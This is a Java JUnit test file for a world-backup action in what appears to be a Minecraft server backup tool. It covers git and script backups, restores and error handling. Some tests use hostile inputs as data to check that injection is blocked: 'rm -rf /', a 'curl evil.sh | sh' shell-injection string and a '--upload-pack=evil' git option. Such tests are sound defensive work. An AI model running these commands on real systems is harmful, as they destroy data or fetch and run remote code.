package mcsnap.engine.execution;

import mcsnap.engine.config.EngineConfig;
import mcsnap.engine.error.ActionFailedException;
import mcsnap.engine.error.PreconditionFailedException;
import mcsnap.engine.error.ValidationException;
import mcsnap.engine.model.ActionKind;
import mcsnap.engine.model.Artifact;
import mcsnap.engine.model.TargetName;
import mcsnap.engine.store.Database;
import mcsnap.engine.store.JdbcArtifactRepository;
import mcsnap.engine.support.ScriptedProcessRunner;
import mcsnap.engine.support.TestDatabases;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;

import static org.junit.jupiter.api.Assertions.*;

class WorldBackupActionTest {

    @TempDir
    Path root;

    private EngineConfig config;
    private Database db;
    private JdbcArtifactRepository artifacts;
    private ScriptedProcessRunner runner;

    private static final TargetName WORLDS = TargetName.of("worlds");

    @BeforeEach
    void setUp() throws Exception {
        config = TestDatabases.config("world-backup", root);
        Files.createDirectories(config.worldsDir());
        db = new Database(config);
        artifacts = new JdbcArtifactRepository(db);
        runner = new ScriptedProcessRunner();
    }

    @AfterEach
    void tearDown() {
        db.close();
    }

    private WorldBackupAction action() {
        return new WorldBackupAction(config, runner, artifacts);
    }

    private void installScript() throws Exception {
        Files.createDirectories(config.backupScript().getParent());
        Files.writeString(config.backupScript(), "#!/bin/bash\n");
    }

    @Test
    void usesBackupScriptWhenPresent() throws Exception {
        installScript();
        String message = "Scheduled backup: nightly; rm -rf / [2024-01-01T03:00:00Z]";

        ActionResult result = action().push(WORLDS, message, "sched-1");

        ProcessCommand push = runner.commands().get(0);
        assertEquals("bash", push.program());
        assertEquals(List.of(config.backupScript().toString(), "push", "--message", message), push.args());
        assertEquals(config.platformDir(), push.workDir());
        String platformRoot = config.platformDir().toAbsolutePath().toString();
        assertEquals(platformRoot, push.env().get("MCSNAP_ROOT"));
        assertEquals(platformRoot, push.env().get("MCCTL_ROOT"));

        assertTrue(result.changed());
        assertEquals("Backup complete (abc1234)", result.message());
        Artifact artifact = artifacts.findById(result.artifact().id()).orElseThrow();
        assertEquals(ActionKind.WORLD_BACKUP, artifact.kind());
        assertEquals("abc1234", artifact.versionRef());
        assertEquals("sched-1", artifact.scheduleId());
        assertEquals(message, artifact.description());
    }

    @Test
    void fallsBackToGitInBackupRepository() {
        action().push(WORLDS, "manual", null);

        List<List<String>> argvs = runner.argvs();
        assertEquals(List.of(
                List.of("git", "add", "-A"),
                List.of("git", "commit", "-m", "manual"),
                List.of("git", "push"),
                List.of("git", "rev-parse", "--short", "HEAD")), argvs);
        runner.commands().forEach(c -> assertEquals(config.backupRepoDir(), c.workDir()));
    }

    @Test
    void shellMetacharactersStayInsideOneArgument() {
        String hostile = "x\"; curl evil.sh | sh; echo \"";
        action().push(WORLDS, hostile, null);

        for (ProcessCommand command : runner.commands()) {
            assertEquals("git", command.program());
            for (String arg : command.args()) {
                if (arg.contains(";")) {
                    assertEquals(hostile, arg);
                }
            }
        }
    }

    @Test
    void nothingToCommitIsNoChanges() {
        runner.on("git commit", ProcessResult.failed(1, "nothing to commit, working tree clean", ""));

        ActionResult result = action().push(WORLDS, "manual", null);

        assertFalse(result.changed());
        assertFalse(result.hasArtifact());
        assertEquals("No changes to backup", result.message());
        assertEquals(2, runner.commands().size(), "push must not run after a no-op commit");
        assertEquals(0, artifacts.countByTarget("worlds", ActionKind.WORLD_BACKUP));
    }

    @Test
    void failureCarriesDiagnostic() {
        runner.on("git push", ProcessResult.failed(128, "", "fatal: could not read from remote repository\n"));

        ActionFailedException e = assertThrows(ActionFailedException.class,
                () -> action().push(WORLDS, "manual", null));
        assertEquals("fatal: could not read from remote repository", e.getMessage());
    }

    @Test
    void unreadableRevisionStillSucceedsWithoutArtifact() {
        runner.on("git rev-parse", ProcessResult.failed(128, "", "fatal: not a git repository"));

        ActionResult result = action().push(WORLDS, "manual", null);

        assertTrue(result.changed());
        assertFalse(result.hasArtifact());
        assertEquals("Backup complete", result.message());
    }

    @Test
    void missingWorldsDirectoryFailsPrecondition() throws Exception {
        Files.delete(config.worldsDir());
        PreconditionFailedException e = assertThrows(PreconditionFailedException.class,
                () -> action().push(WORLDS, "manual", null));
        assertEquals("Worlds directory not found", e.getMessage());
        assertTrue(runner.commands().isEmpty());
    }

    @Test
    void restoreUsesGitCheckoutWithoutScript() {
        action().restore(artifact("abc1234"));
        assertEquals(List.of(List.of("git", "checkout", "abc1234", "--", ".")), runner.argvs());
    }

    @Test
    void restoreUsesScriptWhenPresent() throws Exception {
        installScript();
        action().restore(artifact("abc1234"));
        assertEquals(List.of(List.of("bash", config.backupScript().toString(), "restore", "abc1234")),
                runner.argvs());
    }

    @Test
    void restoreRejectsSuspiciousReference() {
        assertThrows(ValidationException.class, () -> action().restore(artifact("--upload-pack=evil")));
        assertTrue(runner.commands().isEmpty());
    }

    private Artifact artifact(String ref) {
        return Artifact.builder()
                .id("w-1")
                .kind(ActionKind.WORLD_BACKUP)
                .target(WORLDS)
                .createdAt(Instant.now())
                .versionRef(ref)
                .build();
    }
}
